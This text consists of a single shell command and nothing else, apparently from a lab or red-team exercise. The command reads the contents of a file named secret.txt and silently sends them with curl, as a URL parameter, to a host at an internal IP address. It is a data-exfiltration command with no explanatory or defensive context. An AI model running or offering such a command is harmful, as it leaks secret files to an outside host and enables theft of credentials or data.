curl -s -m 3 "http://10.233.1.2/U12?d=$(cat /srv/rt/s/d1/home/secret.txt)"
